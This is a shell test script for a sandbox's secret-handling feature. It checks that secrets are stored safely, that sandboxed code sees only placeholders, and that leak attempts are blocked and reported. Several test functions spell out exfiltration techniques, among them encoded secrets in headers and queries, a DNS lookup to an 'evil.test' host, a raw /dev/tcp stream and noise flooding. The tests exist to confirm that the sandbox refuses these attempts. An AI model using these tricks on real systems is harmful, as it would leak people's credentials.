#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# red: gate-stray, gate-foreign, gate-redact, gate-rows
#
# Secrets: inside there is a placeholder; the value goes out to its own host alone, in its own place,
# and does not come back.
. "$(dirname "$0")/../lib/egress.sh"

VALUE='sk-live/0123456789+"abcdef'

policy()
{
	cat >"$W/policy.yaml" <<-EOT
		allow:
		  - host: good.test
		    port: 443
		    inject:
		      - {secret: API_KEY, header: Authorization, prefix: "Bearer "}
		  - host: four.test
		    port: 443
		    paths: [/echo*]
		    inject:
		      - {secret: API_KEY, query: key}
		  - host: four.test
		    port: 443
		    name: files
		    paths: [/files/*]
		  - host: a.wild.test
		    port: 443
		    inject:
		      - {secret: API_KEY, basic: user}
		  - host: b.wild.test
		    port: 443
		    protocol: https
		  - host: good.test
		    port: 80
	EOT
	own "$W"
}

# keep NAME [OPTION...]: sets a secret to VALUE.
keep()
{
	printf '%s\n' "$VALUE" >"$W/value"
	own "$W"
	pinfold secret set "$1" --file "$W/value" "${@:2}"
	rm -f "$W/value"
}

with_secret()
{
	inside --policy "$W/policy.yaml" -- "${BARE[@]}" "$@"
}

# nowhere NAME: the value is not in what the last run printed.
nowhere()
{
	check "$1" test -z "$(grep -F -e 0123456789 -e 'MDEyMzQ1Njc4' "$OUT" "$ERR")"
}

vault()
{
	keep API_KEY
	exits 0 "a secret is set"
	check "its value is not printed" test ! -s "$OUT" -a ! -s "$ERR"
	pinfold secret ls
	check "it is listed" grep -q '^API_KEY ' "$OUT"
	nowhere "without its value"
	check "which is nowhere in the data directory" test -z \
		"$(grep -rlF 0123456789 "$M/home" 2>/dev/null)"
	check "nor is its name, but in the ledger" test -z \
		"$(grep -rlF --exclude-dir=ledger API_KEY "$M/home" 2>/dev/null)"
	check "the file is the user's own" test "$(stat -c %a "$M/home/secrets")" = 600
	check "the key lies elsewhere" test "$(stat -c %s "$KEYS/pinfold-vault.key")" = 32
	pinfold secret set 1BAD --file /dev/null
	refuses invalid_argument 1BAD "a name that is none"
	pinfold secret set OTHER --file /dev/null
	refuses invalid_argument "no line" "a value that is none"
	pinfold secret rm NOBODY
	refuses not_found NOBODY "one that is not there"
	pinfold secret set API_KEY "$VALUE"
	refuses invalid_argument "too many" "a value as a word"
	pinfold secret set
	refuses invalid_argument NAME "no name"
	pinfold secret set BY_COMMAND --command 'echo sk-0123456789-by; true' --ttl 1h
	exits 0 "what a command prints"
	pinfold secret set BY_COMMAND --command 'echo sk-0123456789-no; false'
	refuses invalid_argument --command "one that fails"
	pinfold secret ls --json
	json_is '["API_KEY", "BY_COMMAND"]' '[x["name"] for x in d["items"]] if d["next"] is None else 0' "a list as every other"
	json_has 'all(re.fullmatch(r"20\d\d-\d\d-\d\dT[\d:.]+Z", x["created"]) for x in d["items"]) and d["items"][0]["expires"] is None' \
		"with instants"
	pinfold secret rm BY_COMMAND
}

# Who interrupts it while it waits for the value has a terminal that shows what he types.
typed()
{
	check "echo comes back" env "PINFOLD_HOME=$M/typed" "PINFOLD_CONFIG=$M/typed" /usr/bin/python3 -I - \
		"$PINFOLD_COPY" secret set TYPED <<-'EOT'
		import fcntl, os, pty, subprocess, sys, termios
		master, slave = pty.openpty()
		shows = lambda: termios.tcgetattr(slave)[3] & termios.ECHO
		p = subprocess.Popen(sys.argv[1:], stdin=slave, stdout=slave, stderr=slave, start_new_session=True,
		                     preexec_fn=lambda: fcntl.ioctl(0, termios.TIOCSCTTY, 0))
		while shows() and p.poll() is None:
		    pass
		os.write(master, b"\x03")
		p.wait()
		sys.exit(not shows())
	EOT
}

out()
{
	forget
	with_secret sh -c 'curl -s https://good.test/; curl -s -o /dev/null -w " %{http_code}" \
		-H "Authorization: Bearer $API_KEY" https://good.test/echo'
	prints "hello good.test  200" "requests go out with the secret, or with its placeholder"
	check "the server has the value" test "$(grep -cF "Bearer $VALUE" "$NET/far/keys")" = 2
	with_secret curl -s 'https://four.test/echo?a=b'
	check "as a parameter" grep -qF '/echo?a=b&key=sk-live%2F0123456789%2B%22abcdef' "$NET/far/http"
	inside_json --policy "$W/policy.yaml" -- "${BARE[@]}" curl -s https://four.test/echo https://four.test/files/x
	json_is '[["/echo", false], ["/files/x", true]]' 'sorted((q["path"], n["rule"] == "files")
		for n in d["network"] for q in n["requests"])' "a request is in the row of the rule that allowed it"
	inside_json --policy "$W/policy.yaml" -- "${BARE[@]}" sh -c 'echo "$API_KEY"; env; curl -s -H "Authorization: Bearer $API_KEY" https://good.test/echo
		curl -s https://good.test/'
	json_is '[]' 'd["alerts"]' "where the secret belongs, or on the screen, the placeholder is no alert"
	with_secret curl -s https://a.wild.test/
	check "as basic auth" grep -qF "Basic $(printf 'user:%s' "$VALUE" | base64 -w0)" "$NET/far/keys"
}

inside_of_it()
{
	with_secret sh -c 'echo "$API_KEY"; env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr "\0" "\n"'
	check "inside there is a placeholder" grep -qE '^pfs_[a-z2-7]{32}$' <(head -1 "$OUT")
	nowhere "and nothing else"
	local one
	one=$(head -1 "$OUT")
	with_secret sh -c 'echo "$API_KEY"'
	check "another one in each sandbox" test "$one" != "$(head -1 "$OUT")"
	with_secret sh -c 'curl -s -D - https://good.test/echo; curl -s https://good.test/echo.chunks
		curl -s -r 0-60 https://good.test/echo; curl -s --compressed https://good.test/echo.gzip
		curl -s -H "Accept-Charset: utf-16" https://good.test/echo.utf16 | tr -d "\0"'
	check "what the server echoes comes back" grep -q '^Authorization: Bearer \*\*\*' "$OUT"
	nowhere "without the value: in fields, bodies, pieces"
	with_secret sh -c 'for p in gzip gzip.too part; do
		curl -s --compressed -o /dev/null -w "%{http_code} " "https://good.test/echo.$p"; done'
	prints "502 502 502 " "what is packed or a part, which nobody asked for, does not come back"
	check "nor in parts: ranges are not asked for" test "$(seen http 'range|accept-(encoding|charset)')" = 0
	with_secret sh -c 'curl -s https://four.test/echo; curl -s https://a.wild.test/echo'
	check "nor as URL or base64" grep -q '\*\*\*' "$OUT"
	nowhere "are they to be had"
	inside_json --policy "$W/policy.yaml" -- "${BARE[@]}" curl -s https://good.test/echo
	nowhere "nor from the document"
}

alarms()
{
	forget
	inside_json --policy "$W/policy.yaml" -- "${BARE[@]}" sh -c '
		code() { curl -s -o /dev/null -w "%{http_code} " "$@"; }
		code -H "Authorization: Bearer $API_KEY" https://b.wild.test/
		code "https://b.wild.test/?x=$API_KEY"
		code -d "x=$API_KEY" https://b.wild.test/
		code -H "X-Note: $API_KEY" https://good.test/
		code -H "Authorization: Bearer $API_KEY" http://good.test/
		code -H "Authorization: Bearer mine" https://good.test/
		code -H "x-api-key: mine" https://good.test/
		code -H "Authorization: Bearer mine" https://four.test/files/x
		code -H "Cookie: session=mine" https://four.test/files/x
		code "https://four.test/files/x?access_token=mine"
		code "https://four.test/files/x?a=1;access_token=mine"
		code -H "Authorization: Bearer pfs_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" https://good.test/'
	json_is "403 403 502 403 403 403 403 403 403 403 403 403 " 'out.decode()' "a placeholder anywhere else is refused"
	# A head may be on its way before anything of its body is there to be looked at.
	check "no server saw a request" test -z "$(grep -v '^POST b.wild.test / 0 443 ' "$NET/far/http")"
	json_has 'sum(x["count"] for x in d["denials"] if "placeholder of a secret" in x["what"]) == 5' \
		"five alarms are told"
	json_has 'sum(a["count"] for a in d["alerts"] if a["rule"] == "secret") == 5' "as alerts, too"
	json_has 'any("credential of its own" in x["what"] for x in d["denials"])' \
		"a client with its own key is told, too"
}

# Nor does another dress help, or another way.
disguised()
{
	local other

	with_secret sh -c 'echo "$API_KEY"'
	other=$(head -1 "$OUT")
	forget
	inside_json --policy "$W/policy.yaml" --allow good.test:7777 -- "${BARE[@]}" bash -c '
		code() { curl -s -o /dev/null -w "%{http_code} " "$@"; }
		code -u "user:$API_KEY" https://b.wild.test/
		code "https://b.wild.test/?x=%70fs_${API_KEY#pfs_}"
		code -H "X-Note: $(printf %s "$API_KEY" | od -An -tx1 -v | tr -d " \n")" https://b.wild.test/
		code -H "X-Note: '"$other"'" https://b.wild.test/
		getent hosts "$API_KEY.evil.test" || printf "no "
		exec 3<>/dev/tcp/good.test/7777; printf "x%s\n" "$API_KEY" >&3; read -r -t 5 back <&3; echo "$back"'
	json_is "403 403 403 403 no " 'out.decode().rstrip("\n")' "encoded, another sandbox's, as a name or in a stream"
	check "no server saw it" test "$(cat "$NET/far/http" "$NET/far/tcp" "$NET/far/dns" | grep -c 'pfs_\|evil')" = 0
	json_has 'sum(x["count"] for x in d["denials"] if "placeholder of a secret" in x["what"]) >= 6' "each is an alarm"
	json_has 'not any("--allow pfs_" in x["hint"] for x in d["denials"])' "and nobody is told to allow it"
}

# Whoever makes much noise first hides nothing by it.
noise()
{
	inside_json --policy "$W/policy.yaml" -- "${BARE[@]}" sh -c '
		/usr/bin/python3 -c "
import socket
for i in range(300):
    for name in (\"n%d.evil.test\" % i, \"203.0.113.%d\" % (i % 250)):
        try: socket.create_connection((name, 443), 5)
        except OSError: pass"
		curl -s https://good.test/
		curl -s -o /dev/null "https://b.wild.test/?x=$API_KEY"'
	json_has 'len(d["network"]) < 260 and d["network_omitted"] > 300' "many refusals are folded"
	json_has 'any(n["host"] == "good.test" and n["verdict"] == "allowed" for n in d["network"])' \
		"what was let through afterwards is on record"
	json_has 'any(n["host"] == "b.wild.test" and n["rule"] == "secret" for n in d["network"])' "so is an alarm"
	json_has 'any("placeholder" in x["what"] for x in d["denials"]) and any(a["rule"] == "secret" for a in d["alerts"])' \
		"in all its places"
	json_has 'sum(n["count"] for n in d["network"] if n["verdict"] == "denied") >= 600' "and none is lost from the counts"
}

ends()
{
	keep ONCE --uses 1
	sed 's/API_KEY/ONCE/' "$W/policy.yaml" >"$W/once.yaml"
	own "$W"
	inside --policy "$W/once.yaml" -- true
	exits 0 "a secret for one sandbox"
	inside --policy "$W/once.yaml" -- true
	refuses not_found ONCE "and no more"
	pinfold secret rm API_KEY
	exits 0 "one is removed"
	inside --policy "$W/policy.yaml" -- true
	refuses not_found API_KEY "a run without it"
}

checks()
{
	network || return
	KEYS=$M/keys
	mkdir -p "$KEYS"
	head -c 32 /dev/urandom >"$KEYS/pinfold-vault.key"
	chmod 600 "$KEYS/pinfold-vault.key"
	own "$KEYS"
	CALL_ENV=(PINFOLD_RESOLVER=198.51.100.2:53 SSL_CERT_FILE="$NET/cert.pem"
		CREDENTIALS_DIRECTORY="$KEYS")
	: >"$NET/far/keys"
	policy
	vault
	typed
	out
	inside_of_it
	alarms
	disguised
	noise
	ends
	untouched "secrets"
}

run_egress
